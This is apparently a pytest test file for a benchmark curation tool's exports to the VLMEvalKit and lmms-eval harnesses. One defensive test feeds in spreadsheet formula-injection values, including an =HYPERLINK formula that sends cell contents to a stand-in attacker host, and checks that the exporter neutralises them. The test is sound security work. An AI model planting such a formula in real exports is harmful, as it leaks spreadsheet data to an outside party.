"""Exports of a release to evaluation harnesses, read back the way each harness reads them."""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import json

import pandas as pd
import pytest
import yaml

from benchcurate.curation.core.errors import UserError
from benchcurate.curation.evaluation.exports.lmms_eval import export_lmms_eval
from benchcurate.curation.evaluation.exports.vlmevalkit import dataset_name, export_vlmevalkit
from benchcurate.curation.release.reading import open_release, rows
from benchcurate.curation.release.writer import write_release
from tests.helpers import SMALL, curate_in_process, edited_release, finished_run


@pytest.fixture(scope="module")
def releases(tmp_path_factory):
    made = {}
    for recipe, overrides in (("multiverse", SMALL), ("alignmmbench", {})):
        tmp_path = tmp_path_factory.mktemp(recipe)
        made[recipe] = write_release(
            finished_run(tmp_path, recipe, recipe, images=6, overrides=overrides), tmp_path / "out"
        )
    return made


def vlmevalkit_images(table: pd.DataFrame) -> dict[int, bytes]:
    """The image of each row as VLMEvalKit resolves it: base64, or (64 characters or fewer) another row's index."""
    cells = dict(zip(table["index"].astype(str), table["image"].astype(str)))
    return {int(index): base64.b64decode(cells[value] if len(value) <= 64 else value) for index, value in cells.items()}


def test_vlmevalkit_tsv_has_a_row_per_turn_with_the_gold_history_and_each_image_once(releases, tmp_path):
    release = releases["multiverse"]
    path = export_vlmevalkit(release, tmp_path)
    assert path.name == f"{dataset_name('multiverse-curated', '0.1.0')}.tsv" == "multiverse_curated_v0_1_0.tsv"
    table = pd.read_csv(path, sep="\t", keep_default_na=False)
    data = list(rows(open_release(release), "test"))
    user_turns = [
        (row, k, turn) for row in data for k, turn in enumerate(row["conversation"]) if turn["speaker"] == "user"
    ]
    assert len(table) == len(user_turns) and list(table["index"]) == list(range(len(table)))
    assert {"index", "image", "question", "answer", "category"} <= set(table.columns)
    images = vlmevalkit_images(table)
    full = table["image"].astype(str).str.len() > 64
    assert full.sum() == len({row["image_sha256"] for row in data})  # each image stored once
    for (row, k, turn), (_, line) in zip(user_turns, table.iterrows()):
        assert hashlib.sha256(images[line["index"]]).hexdigest() == row["image_sha256"]
        assert line["raw_question"] == turn["utterance"] and line["sample_id"] == row["index"]
        assert line["answer"] == row["conversation"][k + 1]["utterance"]  # the reference: the assistant turn
        assert json.loads(line["checklist"]) == turn["checklist"]
        earlier = json.loads(line["history"])
        assert [entry["text"] for entry in earlier] == [t["utterance"] for t in row["conversation"][:k]]
        assert line["question"].endswith(turn["utterance"]) and all(e["text"] in line["question"] for e in earlier)


def test_vlmevalkit_tsv_gives_alignmmbench_rewrites_rows_of_their_own(releases, tmp_path):
    release = releases["alignmmbench"]
    table = pd.read_csv(export_vlmevalkit(release, tmp_path), sep="\t", keep_default_na=False)
    data = list(rows(open_release(release), "test"))
    expected = sum(1 + sum(1 for r in row["rewrites"] if r["status"] != "rejected") for row in data)
    assert len(table) == expected and expected > len(data)
    for row in data:
        mine = table[table["sample_id"] == row["index"]]
        question = row["conversation"][0]
        assert list(mine["variant"]) == list(range(len(mine)))
        assert set(mine["answer"]) == {question["reference"]} and mine.iloc[0]["raw_question"] == question["utterance"]


def test_the_export_command_writes_harness_formats_from_a_release(releases, tmp_path):
    done = curate_in_process(["export", "vlmevalkit", str(releases["multiverse"]), "--to", str(tmp_path / "v")])
    assert done.returncode == 0 and "--data multiverse_curated_v0_1_0" in done.stdout, done.stderr
    run_not_release = curate_in_process(["export", "vlmevalkit", str(tmp_path), "--to", str(tmp_path / "w")])
    assert run_not_release.returncode == 2 and "is not a release folder" in run_not_release.stderr


# --- what each harness needs, and nothing a spreadsheet would run -----------------------------------------------------

FORMULAS = ('=HYPERLINK("http://attacker.example/?q="&A1,"click")', "+1+1", "-2+3", "@SUM(1,2)")


def with_formulas(release, into):
    """A copy of a release whose first sample's question, references and caption start as spreadsheet formulas."""

    def edit(rows: list[dict]) -> list[dict]:
        users = [turn for turn in rows[0]["conversation"] if turn["speaker"] == "user"]
        for turn, formula in zip(users, FORMULAS):
            turn["utterance"] = formula + " " + turn["utterance"]
            if turn.get("reference"):
                turn["reference"] = formula
        for turn in rows[0]["conversation"]:
            if turn["speaker"] == "assistant":
                turn["utterance"] = FORMULAS[0]
        if rows[0].get("caption"):
            rows[0]["caption"] = FORMULAS[3]
        return rows

    return edited_release(release, into, edit)


def test_vlmevalkit_rows_name_one_image_file_per_distinct_image(releases, tmp_path):
    table = pd.read_csv(export_vlmevalkit(releases["multiverse"], tmp_path), sep="\t", keep_default_na=False)
    images = vlmevalkit_images(table)
    digests = {index: hashlib.sha256(data).hexdigest() for index, data in images.items()}
    names = dict(zip(table["index"], table["image_path"]))
    # VLMEvalKit writes <LMUData>/images/<dataset>/<image_path> once per name (it skips a file that is there)
    assert len(set(names.values())) == len(set(digests.values())) < len(table)
    assert all(names[a] == names[b] for a in names for b in names if digests[a] == digests[b])


def test_no_tsv_cell_starts_a_formula(releases, tmp_path):
    release = with_formulas(releases["multiverse"], tmp_path / "release")
    path = export_vlmevalkit(release, tmp_path / "lmu")
    table = pd.read_csv(path, sep="\t", keep_default_na=False, dtype=str)
    texts = [value for name in table.columns if name != "image" for value in table[name]]
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
    assert any(text.startswith("'=HYPERLINK(") for text in texts) and any(text.startswith("'@SUM") for text in texts)
    assert all(len(value) <= 64 or base64.b64decode(value) for value in table["image"])  # images untouched


def test_an_export_into_a_folder_holding_other_files_refuses_instead_of_deleting_them(releases, tmp_path):
    task = export_lmms_eval(releases["multiverse"], tmp_path / "tasks")
    (task.folder / "__pycache__").mkdir()  # lmms-eval imported utils.py from it
    again = export_lmms_eval(releases["multiverse"], tmp_path / "tasks")  # its own earlier export: replaced
    assert again.folder == task.folder and not (task.folder / "__pycache__").exists()
    (task.folder / "notes.txt").write_text("mine")
    with pytest.raises(UserError, match="holds files this export does not write .notes.txt"):
        export_lmms_eval(releases["multiverse"], tmp_path / "tasks")
    assert (task.folder / "notes.txt").read_text() == "mine" and (task.folder / "utils.py").exists()


def test_the_lmms_eval_task_marks_lower_is_better_metrics_and_says_why_turns_failed(
    releases, tmp_path, monkeypatch, capsys
):
    task = export_lmms_eval(releases["alignmmbench"], tmp_path / "tasks")
    spec = yaml.safe_load((task.folder / f"{task.name}.yaml").read_text().replace("!function ", ""))
    better = {metric["metric"]: metric["higher_is_better"] for metric in spec["metric_list"]}
    assert better["rating"] is True and better["rewrite_spread_ours"] is False and better["failures"] is False
    assert "robustness" not in json.dumps(spec)
    monkeypatch.delenv("BENCHCURATE_JUDGE_MODEL", raising=False)
    module_spec = importlib.util.spec_from_file_location("exported_utils", task.folder / "utils.py")
    utils = importlib.util.module_from_spec(module_spec)
    module_spec.loader.exec_module(utils)
    docs = list(rows(open_release(releases["alignmmbench"]), "test", 2))
    records = [utils.process_results(doc, [json.dumps(["an answer"] * 6)])["failure_reasons"] for doc in docs]
    reasons = utils.failure_reasons(records)
    assert reasons["judge_not_configured"]["count"] == utils.failures(records) > 0
    assert "set BENCHCURATE_JUDGE_MODEL" in reasons["judge_not_configured"]["example"]
    assert capsys.readouterr().err.count("judge_not_configured") == 1  # said once, not once per sample
    assert records[0]["answers"][0] == "an answer"  # logged, for curate eval --predictions
